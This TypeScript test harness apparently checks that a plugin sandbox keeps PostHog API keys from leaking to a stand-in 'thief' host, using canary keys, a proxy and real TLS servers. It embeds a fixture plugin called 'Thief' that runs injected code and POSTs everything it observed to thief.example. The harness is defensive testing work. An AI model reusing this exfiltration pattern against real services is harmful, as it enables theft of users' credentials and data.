/**
 * Where thefts are tried: a host with a key, `https://posthog.test`, and a thief who is everybody else in the world.
 * Both are real servers with real TLS behind a real proxy, and each byte that the thief gets is kept.
 */
import type { IncomingMessage, ServerResponse } from 'node:http';
import { afterAll, beforeAll, beforeEach, expect } from 'vitest';
import { traceText } from '../../../cli/traceText.ts';
import type { HostAccess } from '../../../protocol/runtime.ts';
import type { Trace } from '../../../protocol/trace.ts';
import { type CreateAppOptions, createApp } from '../../../runtime/index.ts';
import type { App } from '../../../runtime/runner/app.ts';
import { type Listening, listenHttps, type Proxy, startProxy } from '../support/internet.ts';
import { usePool } from '../support/sandboxBundle.ts';
import { leaksIn, personalCanary, projectCanary } from './canaries.ts';

export const own = 'https://posthog.test';
export const thief = 'https://thief.example';
/** The user has a key for the thief's host too: what is stolen is the other one. */
export const thiefsKey = 'phx_keyofthethiefsownhost0123456789abcdef';

export interface Seen {
  readonly method: string;
  readonly url: string;
  readonly headers: IncomingMessage['headers'];
  readonly body: string;
}

export type Answer = (request: Seen, response: ServerResponse) => unknown;

export interface Attempt {
  /** Body of a function of the app. `look(response or anything)` keeps what the app can see, for the thief. */
  readonly app: string;
  /** What the host with the key answers; `{}` when absent. */
  readonly host?: Answer;
  readonly thief?: Answer;
  /** What is different about the app; it gets a process of its own then. */
  readonly options?: (access: HostAccess) => Partial<CreateAppOptions>;
}

export interface Outcome {
  readonly trace: Trace;
  /** Requests that the host got. */
  readonly host: readonly Seen[];
  /** Requests that the thief got, without the last one, in which the app sends all that it has seen. */
  readonly thief: readonly Seen[];
  /** All that the app has seen. */
  readonly loot: string;
  /** Addresses that were asked for without encryption. */
  readonly plain: readonly string[];
}

const answerNothing: Answer = (_, response) =>
  response.writeHead(200, { 'content-type': 'application/json' }).end('{}');

/** For the top of a test file: gives a function that lets an app try, and checks that it got nothing. */
export function useWorld(): (attempt: Attempt) => Promise<Outcome> {
  const pool = usePool();
  const seen: { host: Seen[]; thief: Seen[]; raw: string[] } = { host: [], thief: [], raw: [] };
  const answers: { host: Answer; thief: Answer } = { host: answerNothing, thief: answerNothing };
  const servers: Listening[] = [];
  let proxy: Proxy;
  const questions: string[] = [];
  let before = { asked: 0, plain: 0 };
  let shared: App | undefined;

  beforeAll(async () => {
    const host = await listenHttps(
      keeping(
        (request) => seen.host.push(request),
        (...given) => answers.host(...given),
      ),
    );
    const other = await listenHttps(
      keeping(
        (request, raw) => {
          seen.thief.push(request);
          seen.raw.push(raw);
        },
        (...given) => answers.thief(...given),
      ),
    );
    proxy = await startProxy({ route: (name) => (name === 'posthog.test:443' ? host.port : other.port) });
    servers.push(proxy, host, other);
  });
  beforeEach(() => {
    for (const list of Object.values(seen)) list.length = 0;
    questions.length = 0;
    before = { asked: proxy.asked.length, plain: proxy.plain.length };
  });
  afterAll(async () => {
    await shared?.dispose();
    for (const server of servers) await server[Symbol.asyncDispose]();
  });

  return async ({ app, host = answerNothing, thief: thiefAnswer = answerNothing, options }) => {
    Object.assign(answers, { host, thief: thiefAnswer });
    const create = (given: Partial<CreateAppOptions> = {}): App =>
      createApp({
        pool: pool(),
        source: { files: appFiles },
        access: accessTo(proxy),
        consent: (request) => {
          questions.push(JSON.stringify(request));
          return Promise.resolve(true);
        },
        ...given,
      });
    // One process serves all attempts that are content with it.
    shared ??= create();
    const trying = options === undefined ? shared : create(options(accessTo(proxy)));
    const trace = await trying.call('jobs.attempt', { code: app });
    if (trying !== shared) await trying.dispose();
    const loot = seen.thief.findLast(({ url }) => url === '/all-that-was-seen')?.body ?? '';
    // An app that saw nothing proves nothing.
    if (options === undefined) expect(loot).not.toBe('');
    const asked = proxy.asked.slice(before.asked);
    const outputs = {
      'at the thief': [...seen.raw, ...proxy.plain.slice(before.plain), ...asked].join('\n'),
      'in the trace': JSON.stringify(trace),
      'in the text of the trace': traceText(trace),
      'in the questions to the user': questions.join('\n'),
    };
    for (const [where, text] of Object.entries(outputs)) expect([where, leaksIn(text)]).toEqual([where, []]);
    return {
      trace,
      host: [...seen.host],
      thief: seen.thief.filter(({ url }) => url !== '/all-that-was-seen'),
      loot,
      plain: asked.filter((name) => name.startsWith('http:')),
    };
  };
}

export function accessTo(proxy: Proxy): HostAccess {
  return {
    host: { kind: 'custom', api: own, ingestion: own },
    projectId: '42',
    projectApiKey: projectCanary,
    personalApiKeys: { [own]: personalCanary, [thief]: thiefsKey },
    mode: 'live',
    // Each certificate is taken: no theft may fail for that reason alone.
    network: { proxy: proxy.address, isStrict: false },
  };
}

function keeping(keep: (request: Seen, raw: string) => void, answer: Answer) {
  return (request: IncomingMessage, response: ServerResponse): void => {
    const chunks: Buffer[] = [];
    request.on('data', (chunk: Buffer) => chunks.push(chunk));
    request.on('end', () => {
      const { method = '', url = '', headers } = request;
      const body = Buffer.concat(chunks).toString('latin1');
      const entry = { method, url, headers, body };
      keep(entry, [method, url, ...request.rawHeaders, body].join('\n'));
      answer(entry, response);
    });
  };
}

/** The app tries, and sends whatever it has seen to the thief, in several forms. */
export const appFiles = {
  'plugin.json': '{ "name": "Thief", "main": "index.js" }',
  'index.js': `
    async function see(value, seen) {
      try {
        value = await value
        if (value && typeof value.text === 'function') {
          const bytes = await value.buffer()
          const text = bytes.toString('latin1')
          seen.push(value.status, value.statusText, value.url, [...value.headers].join())
          seen.push(text, bytes.toString('base64'), text.split('\\0').join(''))
        } else seen.push(typeof value === 'string' ? value : JSON.stringify(value), String(value))
      } catch (error) {
        seen.push(String(error), String(error.stack), error.message, JSON.stringify(error), error.toString())
        seen.push(...Object.getOwnPropertyNames(error).map((name) => String(error[name])))
      }
    }
    const AsyncFunction = (async () => {}).constructor
    export const jobs = {
      async attempt({ code }, meta) {
        const seen = []
        const look = (value) => see(value, seen)
        await look(new AsyncFunction('own', 'thief', 'look', 'meta', code)('${own}', '${thief}', look, meta))
        console.log(seen.join(' '))
        await fetch('${thief}/all-that-was-seen', { method: 'POST', body: seen.join('\\n') })
        return seen
      },
    }`,
};
